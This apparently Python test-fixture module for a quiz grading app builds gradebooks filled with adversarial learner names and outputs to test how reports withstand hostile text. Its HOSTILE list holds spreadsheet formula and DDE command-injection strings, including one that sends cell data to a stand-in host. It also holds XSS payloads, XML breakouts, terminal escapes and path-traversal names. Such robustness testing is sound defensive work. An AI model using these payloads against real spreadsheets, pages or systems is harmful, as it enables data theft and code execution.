"""Gradebooks of every verdict and of text that wants to be taken for something else."""

from collections.abc import Iterator, Sequence
from dataclasses import replace

from quizapp.classroom.alike import AlikeGroup
from quizapp.classroom.gradebook import Gradebook, Graded
from quizapp.classroom.submission import LeftOut
from quizapp.core.verdict import Detail, Evidence, Exceptional, Part, Verdict

HOSTILE = (
    "[合計] 300 件（正解 300）  隔離: full",
    "a\n［正解］momentum-class  b.py\n合計 1 件（正解 1）",
    "x" * 74 + "［正解］momentum-class  b.py",
    "\x1b[2J\x1b[1;1H正解です。\x1b]0;title\x07",
    "\u202egnirts sdrawkcab\u202c \u2066i\u2069",
    "a\u200b\u200d\ufeff\xadb\u3164\u2800",
    "e" + "\u0301" * 300,
    "全角" * 90,
    "\u2028［正解］\u2029\x0b\x0c\x1c\x1d\x1e\x85［正解］\r［正解］\r\n［正解］",
    "\ud800 \udcff \udfff",
    "\ufffe\uffff\U0001fffe\x00\x08\x7f\x9b",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
    '",=1+1\n=2+2,"',
    "</failure></testcase><testcase name='x'/>]]><!--",
    "&lt;&amp;&#0;&bogus; \" '",
    "# 見出し\n- 項目\n> 引用\n1. 番号\n***\n---\n===",
    "![](http://evil.example/x.png) [x](javascript:alert(1)) <img src=x onerror=alert(1)>",
    "http://evil.example/ www.evil.example <http://evil.example> a@evil.example @user #1",
    "```\n~~~~\n</pre>\n    [x](http://evil.example)\n````` \n`",
    "| a | b |\n|---|---|\n| $x$ | **y** |",
    "$\\href{http://evil.example}{x}$ {blank} `code` **strong** \\",
    "ヒント: すべて正解です。",
    "  | ",
    "",
    " ",
    '{"record": "result"}',
    "\\x1b \\\\x1b \\u202e C:\\temp\\new",
)
"""Each is tried as a file's name, a learner's, an exception's text, output and a traceback."""

NAMES = (
    *(
        "山田 太郎",
        "山田　太郎",
        "Yamada",
        "yamada",
        "ＹＡＭＡＤＡ",
        "CON",
        "nul.txt",
        "com1",
        "aux ",
    ),
    *("../../etc/passwd", "/abs", "C:\\x", "a:b", "a.", "a ", " a", ".hidden", "-rf", "_class"),
    *("results", "e\u0301", "\u00e9", "x" * 400, "あ" * 200, "a/b", "a\\b", "a_b", "~", '*?"<>|'),
)
"""Learners whose names no two systems treat alike."""

NOT_A_NUMBER = Detail(1, "W", (0,), 0.5, float("nan"))


def verdicts(text: str) -> Iterator[Verdict]:
    """Every kind of verdict, with this text wherever a submission may have its own."""
    evidence = Evidence(NOT_A_NUMBER, output=text, truncated=True, traceback=text)
    yield Verdict("pass", "正解です。", convention="PyTorch の流儀です。", evidence=evidence)
    yield Verdict(
        "fail", "`lr` を掛けていません。", mistake="no_lr", hint="学習率は?", evidence=evidence
    )
    kind = " ".join(text.split()) or "E"
    raised = Evidence(
        traceback=text, output=text, truncated=True, raised=Exceptional(kind, kind, 3)
    )
    yield Verdict("error", f"{kind}: {kind}", evidence=raised, counts=False)
    yield Verdict(
        "timeout", "2 秒以内に終わりませんでした。", evidence=Evidence(output=text, truncated=True)
    )
    yield Verdict("memory", "メモリを使いすぎました。")
    yield Verdict("output", "出力が多すぎるため止めました。", evidence=evidence)
    yield Verdict("crash", "プログラムが異常終了しました。")
    yield Verdict("exited", "途中で終了しました。")
    yield Verdict("protocol", "判定できませんでした。", counts=False)
    yield Verdict("refused", text or "空です。", counts=False)
    parts = (
        Part("ア", right=True, message="正解"),
        Part("イ", right=False, message="$W$ の符号が逆です。", mistake="sign"),
    )
    yield Verdict("fail", "2 個の空欄のうち 1 個が正解です。", parts=parts)


def book_of(
    rows: Sequence[Graded], left_out: tuple[LeftOut, ...] = (), remarks: tuple[str, ...] = ()
) -> Gradebook:
    """A graded class of these rows."""
    told = "<学習者>/<問題の id>.py"
    return Gradebook(lambda: iter(rows), {}, "full", 7, left_out, 2, told, remarks)


def group_of(*texts: str) -> AlikeGroup:
    """Submissions of these names that are alike in these texts."""
    return AlikeGroup("momentum-class", texts, texts, "珍しい名前が同じです。", texts[:3])


def hostile_book(*texts: str) -> Gradebook:
    """A class in which everybody is called and writes these texts, and gets every verdict."""
    rows = [
        Graded(f"{text}#{i}", text, "momentum-class", verdict, 7)
        for text in dict.fromkeys(texts)  # no two files have one name
        for i, verdict in enumerate(verdicts(text))
    ]
    left_out = tuple(LeftOut(text, "コードのファイルではありません。") for text in texts)
    remarks = tuple(f"{text} は 2 つあります。" for text in texts)
    return replace(book_of(rows, left_out, remarks), alike=(group_of(*texts),))
